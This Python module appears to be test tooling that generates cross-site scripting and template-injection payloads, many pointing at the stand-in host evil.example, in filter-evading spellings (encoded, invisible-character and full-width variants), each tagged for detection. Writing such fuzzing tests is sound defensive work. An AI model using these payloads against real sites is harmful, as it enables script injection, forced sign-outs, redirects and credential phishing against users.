"""What an attacker writes where a name or a text is expected: vectors in several spellings, each with a mark of its own."""

import html
import re
from collections.abc import Iterator
from itertools import count

EVIL = "http://evil.example"
VECTORS = (
    "<script>alert('{mark}')</script>",
    "<ScRiPt src={evil}/{mark}.js></sCrIpT>",
    "<img src=x onerror=alert('{mark}')>",
    "<img/src='{evil}/{mark}.png'/onload=alert(1)>",
    "<svg onload=alert('{mark}')>",
    "<svg><script>alert('{mark}')</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>{mark}</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>{mark}'></iframe>",
    "<iframe src='{evil}/{mark}'></iframe>",
    "<a href='javascript:alert(1)'>{mark}</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>{mark}</a>",
    "javascript:alert('{mark}')//",
    "{{{{7*7}}}}{mark}{{{{config}}}}",
    "{{% include '{mark}' %}}${{7*7}}<%= 7*7 %>#{{7*7}}",
    "%(name)s %s %({mark})s 100%",
    "<div hx-get='/signout' hx-trigger='load'>{mark}</div>",
    "<b hx-on:click='alert(1)' hx-trigger=\"load[alert('{mark}')]\">{mark}</b>",
    "<b data-hx-post='/signout' data-hx-trigger='load'>{mark}</b>",
    "<i hx-vals='js:{{a:alert(1)}}' hx-get='{evil}/{mark}' hx-trigger='every 1s'>x</i>",
    "<i hx-swap-oob='true' id='main'>{mark}</i>",
    "<i hx-preserve id='csrf' data-key='a' data-row='1'>{mark}</i>",
    "<form action='{evil}/{mark}'><button>Accept</button></form>",
    "<input autofocus onfocus=alert('{mark}')>",
    "<meta http-equiv=refresh content='0;url={evil}/{mark}'>",
    "<base href='{evil}/{mark}/'>",
    "<link rel=stylesheet href={evil}/{mark}.css>",
    "<style>@import '{evil}/{mark}';</style>",
    "<p style='background:url({evil}/{mark})'>x</p>",
    "<object data='{evil}/{mark}'></object><embed src={evil}>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>{mark}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{mark}')>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>{mark}",
    "<details open ontoggle=alert('{mark}')>x</details>",
    "<video><source onerror=alert('{mark}')></video>",
    "</title></textarea></template></select><script>alert('{mark}')</script>",
    "<!--><img src=x onerror=alert('{mark}')>-->",
    "<template shadowrootmode=open><script>alert('{mark}')</script></template>",
    "\u202e<img src=x onerror=alert('{mark}')>\u202c",
)


def _breaking_out(text: str) -> str:
    return f"\"'>{text}"


def _by_attribute(text: str) -> str:
    return f"x\" onmouseover='alert(1)' hx-get=/signout {text}"


def _with_invisible(text: str) -> str:
    return text.replace("<s", "<\ufeffs").replace("=", "\u200b=", 1)


def _with_controls(text: str) -> str:
    return text.replace("<", "<\x01", 1).replace(" ", "\x0c", 1)


def _full_width(text: str) -> str:
    return text.replace("<", "\uff1c", 1) + text.replace(">", "\u203a", 1)


SPELLINGS = (
    str,
    _breaking_out,
    _by_attribute,
    html.escape,
    lambda text: text.replace("<", "&lt").replace("a", "&#97;", 1),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\x3c", 1).replace("a", "\\u0061", 1) + text,
    _with_invisible,
    _with_controls,
    _full_width,
)
"""As it is, out of an attribute, and as decoders of one kind or another might undo it."""


class Payloads:
    """Gives payloads in turn: all vectors in one spelling, then in the next."""

    def __init__(self) -> None:
        self.given: list[str] = []
        self._endless = self._all()

    def text(self, longest: int = 200) -> str:
        """The next payload that is not longer."""
        payload = next(one for one in self._endless if len(one) <= longest)
        self.given.append(payload)
        return payload

    def word(self) -> str:
        """The next payload without a space, which names of facts must not have."""
        self.given.append(word := re.sub(r"[\x00-\x20\x7f]", "/", next(one for one in self._endless if len(one) < 100)))
        return word

    @staticmethod
    def _all() -> Iterator[str]:
        numbers = count(1)
        while True:
            for spell in SPELLINGS:
                for vector in VECTORS:
                    yield spell(vector.format(mark=f"zq{next(numbers)}", evil=EVIL))


def mark_of(payload: str) -> str:
    """What is found of it in a text, whatever became of the rest."""
    return re.search(r"zq\d+", payload)[0]
